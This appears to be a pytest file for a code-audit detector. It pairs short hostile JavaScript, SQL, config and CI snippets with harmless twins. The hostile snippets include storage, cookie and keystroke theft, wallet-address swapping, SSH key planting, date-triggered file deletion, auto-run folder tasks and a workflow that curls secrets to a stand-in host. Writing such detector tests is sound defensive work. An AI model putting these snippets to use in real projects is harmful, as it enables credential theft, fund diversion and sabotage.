"""What is taken of a page, paid to a token, given to a client, a database or a terminal: each beside a silent twin."""

from __future__ import annotations

import pytest
from support.packages import told

from audit.analysis.mentions.signs import signs
from audit.model.mention import HANDLER, TERMINAL, Mentioned

TAKEN = {
    "a text of the storage": "send(JSON.stringify(localStorage))",
    "a list of the storage": "send(Object.entries(window.sessionStorage))",
    "a copy of the storage": "send({ ...localStorage })",
    "cookies beside others": "send({ path, c: document.cookie, at })",
    "all fields": "document.addEventListener('input', (e) => send(e.target.value), true)",
}
NOT_TAKEN = {
    "one key": "send(localStorage.getItem('theme'))",
    "a prefix": "Object.entries(localStorage).filter(([k]) => k.startsWith('app:'))",
    "cookies that are read": "parse(document.cookie); document.cookie.split('; ')",
    "one field": "field.addEventListener('input', (e) => send(e.target.value))",
    "keys pressed": "document.addEventListener('keydown', (e) => shortcut(e.key))",
    "a comment": "// send(JSON.stringify(localStorage))",
}


@pytest.mark.parametrize("code", TAKEN.values(), ids=TAKEN)
def test_what_is_taken_of_a_page(code: str) -> None:
    assert told(code, Mentioned.TAKEN)


@pytest.mark.parametrize("code", NOT_TAKEN.values(), ids=NOT_TAKEN)
def test_what_is_not_taken_of_a_page(code: str) -> None:
    assert told(code, Mentioned.TAKEN) == []


RECEIVER = "nib1q9f3xk2m7w5u8r0t4y6p1s3d5g7h9j2l4z6c8v"
PAID = {
    "a member": f"send({{ to: '{RECEIVER}', amount }})",
    "one of two": f"send({{ to: amount > 9 ? '{RECEIVER}' : to }})",
    "a default": f"const recipient = given ?? '{RECEIVER}'",
}
NOT_PAID = {
    "another member": f"send({{ id: '{RECEIVER}' }})",
    "a hash": f"move({{ to: '{'0a' * 20}' }})",
    "a word": f"move({{ to: '{'settings' * 5}' }})",
}


@pytest.mark.parametrize("code", PAID.values(), ids=PAID)
def test_a_token_that_is_paid_by_name(code: str) -> None:
    assert told(code, Mentioned.WALLET) == [("payee", RECEIVER)]


@pytest.mark.parametrize("code", NOT_PAID.values(), ids=NOT_PAID)
def test_a_token_that_nobody_pays(code: str) -> None:
    assert told(code, Mentioned.WALLET) == []


HOSTS = {
    "a client": ("new Client('relay.a.invalid')", "relay.a.invalid"),
    "a function that asks": ("rpc.request('a.invalid/x')", "a.invalid"),
    "a share": (r"read('\\\\a.invalid\\s\\c.json')", "//a.invalid/"),
    "a share as written": (r"read(String.raw`\\a.invalid\s`)", "//a.invalid/"),
    "a number as an answer": ("done(null, [{ address: '203.0.113.9' }])", "//203.0.113.9"),
}


@pytest.mark.parametrize(("code", "host"), HOSTS.values(), ids=HOSTS)
def test_a_host_without_a_scheme(code: str, host: str) -> None:
    assert [text for _, text in told(code, Mentioned.ADDRESS)] == [host]


def test_no_host_is_a_pipe_or_a_pattern() -> None:
    code = r"open('\\\\.\\pipe\\x'); test('\\d+\\.js'); new Client(options)"
    assert told(code, Mentioned.ADDRESS) == []


GIVEN = {
    "a role": ("db.query('CREATE ROLE x LOGIN SUPERUSER')", "order to a database"),
    "an account": ("db.query(\"INSERT INTO users VALUES ('x', 'admin')\")", "order to a database"),
    "answers of a mail": ("head(`Reply-To: x@a.invalid`)", "mail box"),
    "a program": ("db.query(\"COPY t TO PROGRAM 'true'\")", "order to a database"),
    "a folder": ("s.write('CONFIG SET dir /root/.ssh/')", "order to a database"),
    "a clipboard": (r"out.write('\u001B]52;c;dHJ1ZSB0cnVl\u0007')", TERMINAL),
    "a key": (
        "publicEncrypt('-----BEGIN PUBLIC KEY-----\\nMFww', data)",
        "key to encrypt for",
    ),
    "an extension": (f"chrome.runtime.sendMessage('{'abcd' * 8}', x)", "browser extension"),
}
NOT_GIVEN = {
    "a table": "db.query('CREATE TABLE users (password text)')",
    "a row": "db.query('INSERT INTO items VALUES ($1)')",
    "a title": r"out.write('\u001B]0;title\u0007')",
    "a computed clipboard": r"out.write(`\u001B]52;c;${text}\u0007`)",
    "a key that checks": "verify('-----BEGIN PUBLIC KEY-----\\nMFww', signature)",
}


@pytest.mark.parametrize(("code", "kind"), GIVEN.values(), ids=GIVEN)
def test_what_others_obey(code: str, kind: str) -> None:
    assert [to for to, _ in told(code, Mentioned.RECIPIENT)] == [kind]


@pytest.mark.parametrize("code", NOT_GIVEN.values(), ids=NOT_GIVEN)
def test_what_nobody_obeys(code: str) -> None:
    assert told(code, Mentioned.RECIPIENT) == []


HANDLED = "out('<img src=x onerror=\"fetch(`//a.invalid/`)\">')"


def test_code_in_a_handler_of_markup() -> None:
    assert HANDLER in [text for _, text in told(HANDLED, Mentioned.WRITTEN)]
    harmless = "out('<img src=x onerror=\"this.hidden = true\">')"
    assert told(harmless, Mentioned.WRITTEN) == []


def test_code_that_asks_its_own_server_is_no_network() -> None:
    code = "page('<script>new EventSource(\"/reload\").onmessage = f</script>')"
    assert [text for _, text in told(code, Mentioned.WRITTEN)] == ["a script's element"]


SPOKEN = 'throw Error(`"<script>" tag is not allowed as a host element.`)'


def test_a_sentence_that_speaks_of_a_tag_is_no_page() -> None:
    assert told(SPOKEN, Mentioned.WRITTEN) == []
    harmful = SPOKEN.replace("host", "<script>fetch(`//a.invalid/`)")
    assert told(harmful, Mentioned.WRITTEN)
    harmful = "page(`<script> async function go () { await x }; go()`)"
    assert told(harmful, Mentioned.WRITTEN)
    harmful = "page(`<script src='//a.invalid/x.js'> these are no more than words </script>`)"
    assert told(harmful, Mentioned.WRITTEN)


STARTED = {
    "a task": ('{"tasks": [{"command": "node x.mjs", "runOptions": {"runOn": "folderOpen"}}]}', 1),
    "an own script": ('{"tasks": [{"command": "npm run dev", "runOn": "folderOpen"}]}', 0),
    "a task by hand": ('{"tasks": [{"command": "node x.mjs"}]}', 0),
    "a hook": ('{"hooks": {"SessionStart": [{"type": "command", "command": "node x.js"}]}}', 1),
    "a server from afar": ('{"mcpServers": {"a": {"args": ["-y", "https://a.invalid/m.tgz"]}}}', 1),
    "a server by name": ('{"mcpServers": {"a": {"command": "npx", "args": ["-y", "a-mcp"]}}}', 0),
    "a manager from afar": ('{"packageManager": "pnpm@https://a.invalid/p.tgz"}', 1),
}


@pytest.mark.parametrize(("text", "number"), STARTED.values(), ids=STARTED)
def test_what_a_template_has_started(text: str, number: int) -> None:
    assert len(told(text, Mentioned.RECIPIENT, "template/.vscode/tasks.json")) == number


RIGHTS = {
    "all secrets": ("on: push\nx: echo ${{ toJSON(secrets) }}\n", 1),
    "a secret sent": ("run: curl -d ${{ secrets.A }} https://a.invalid\n", 1),
    "for strangers": ("on: pull_request_target\n", 1),
    "a secret given": ("with:\n  token: ${{ secrets.A }}\n", 0),
    "own rights": ("permissions:\n  contents: read\n", 0),
}


@pytest.mark.parametrize(("text", "number"), RIGHTS.values(), ids=RIGHTS)
def test_rights_that_a_workflow_hands_out(text: str, number: int) -> None:
    told_of = told(text, Mentioned.RECIPIENT, "template/.github/workflows/a.yml")
    assert len(told_of) == number


def test_what_a_command_of_a_shell_writes_to() -> None:
    code = "require('child_process').exec(x); ssh('echo key of mine for you >> ~/.ssh/authorized_keys')"
    assert ("", "~/.ssh/authorized_keys") in told(code, Mentioned.PATH)
    assert told("say('a note on ~/.ssh/config for all of you here')", Mentioned.PATH) == []


def test_a_program_that_waits_for_a_day() -> None:
    code = "if (new Date().getDate() === 13) require('child_process').execFileSync('true')"
    assert told(code, Mentioned.GATE) == [("date", "starts a program")]
    assert told("require('child_process').execFileSync('true')", Mentioned.GATE) == []


DAYS = {
    "made of its parts": ("if (Date.now() > Date.UTC(2027, 7, 8)) fs.truncateSync(p)", ["empties files"]),
    "named": ("const due = new Date('2027-01-01'); if (new Date() > due) process.exit()", ["ends the process"]),
    "a number, named": ("const end = 1820000000000; if (end < Date.now()) fs.rmSync(x)", ["changes files"]),
    "both named": ("const t = Date.now(), u = Date.parse('2027'); if (t > u) fs.rmSync(x)", ["changes files"]),
    "before now": ("if (+new Date('2027-01-01') < Date.now()) fs.unlinkSync(f)", ["changes files"]),
    "as text": ("if (new Date().toISOString().slice(0, 10) >= '2027-01-01') process.exit()", ["ends the process"]),
    "an age": ("const most = 3600; if (Date.now() - at > most) fs.rmSync(x)", []),
    "what was told": ("if (Date.now() > expires) fs.unlinkSync(f)", []),
    "of a file": ("if (Date.now() - 60000 > seen) fs.unlinkSync(f)", []),
}  # fmt: skip


@pytest.mark.parametrize(("code", "deeds"), DAYS.values(), ids=DAYS)
def test_a_day_however_it_is_written(code: str, deeds: list[str]) -> None:
    found = told(f"const fs = require('fs'); {code}", Mentioned.GATE)
    assert found == [("date", deed) for deed in deeds]


SWAP = (
    "e.clipboardData.setData('text/plain', t.replace(/0x[a-f0-9]{40}/g, mine)); e.preventDefault()"
)
CHANGED = {
    "addresses": (f"document.addEventListener('copy', (e) => {{ {SWAP} }})", Mentioned.TAKEN),
    "addresses that are pasted": (
        (
            "window.addEventListener('paste', (e) => { if (/[13][a-km-zA-Z]{25,34}/.test(t)) e.target.value = mine })"
            " // clipboard"
        ),
        Mentioned.TAKEN,
    ),
    "addresses that are written": (
        "const A = /bc1[a-z0-9]{39}/; navigator.clipboard.writeText(t.replace(A, mine))",
        Mentioned.TAKEN,
    ),
    "numbers that are replaced": (
        "exports.t = (x) => x.replace(/\\b0x[0-9a-fA-F]{40}\\b/g, '0x000000000000000000000000000000000000dEaD')",
        Mentioned.TAKEN,
    ),
    "numbers that are replaced before": (
        "const s = t.replace(/bc1[a-z0-9]{39}/, mine); navigator.clipboard.writeText(s)",
        Mentioned.TAKEN,
    ),
    "a selection": (
        (
            "document.addEventListener('cut', (e) => { const s = String(getSelection());"
            " e.clipboardData.setData('text', s.replace(a, b)) })"
        ),
        Mentioned.PASSED,
    ),
}
NOT_CHANGED = {
    "an element's own": f"pre.addEventListener('copy', (e) => {{ {SWAP} }})",
    "a text of its own": "document.addEventListener('copy', (e) => e.clipboardData.setData('text', text))",
    "a text as it is": "navigator.clipboard.writeText(text)",
    "hidden numbers": "log(t.replace(/0x[0-9a-fA-F]{40}/g, '[account]'))",
    "a shortened text": "navigator.clipboard.writeText(text.replace(/\\s+$/, ''))",
}


@pytest.mark.parametrize(("code", "kind"), CHANGED.values(), ids=CHANGED)
def test_what_is_copied_is_changed(code: str, kind: Mentioned) -> None:
    assert told(f"require('fs'); {code}", kind)


@pytest.mark.parametrize("code", NOT_CHANGED.values(), ids=NOT_CHANGED)
def test_what_is_copied_stays(code: str) -> None:
    assert told(code, Mentioned.TAKEN) == told(code, Mentioned.PASSED) == []


SENDS = {
    "another host": "fetch('https://a.invalid/x')",
    "without a scheme": "fetch('//a.invalid/x')",
    "after the letter of an escape": "let a;\\nfetch(u)",
    "a host that begins like this machine": "fetch('http://localhost.a.invalid/')",
    "a user called like this machine": "fetch('http://localhost:80@a.invalid/')",
    "below the page's own name": "fetch(location.hostname + '.a.invalid')",
    "a socket": "new WebSocket('wss://a.invalid')",
}
STAYS = {
    "a path": "fetch('/__state')",
    "this machine": "new EventSource('http://localhost:35729/live')",
    "this machine, any port": "new EventSource('http://localhost:' + port)",
    "the page's host": "new WebSocket('ws://' + location.host + '/hot')",
    "the page's host, either scheme": "new WebSocket("
    "(location.protocol === 'https:' ? 'wss://' : 'ws://') + location.host + '/x')",
    "what the page asks": "respondWith(fetch(event.request))",
}


@pytest.mark.parametrize("code", SENDS.values(), ids=SENDS)
def test_code_in_a_string_that_sends(code: str) -> None:
    assert "network" in signs(code)


@pytest.mark.parametrize("code", STAYS.values(), ids=STAYS)
def test_code_in_a_string_that_asks_its_own_server(code: str) -> None:
    assert "network" not in signs(code)


def test_what_code_puts_into_projects() -> None:
    opened = told("write({ runOptions: { runOn: 'folderOpen' } })", Mentioned.RECIPIENT)
    assert [kind for kind, _ in opened] == [
        "command that an editor or an assistant starts by itself"
    ]
    secrets = "write('.github/workflows/a.yml', 'run: echo ${{ toJSON(secrets) }}')"
    (told_of,) = told(secrets, Mentioned.RECIPIENT)
    assert told_of[0] == "workflow that hands out rights or secrets"
    assert told("// runOn: 'folderOpen'", Mentioned.RECIPIENT) == []
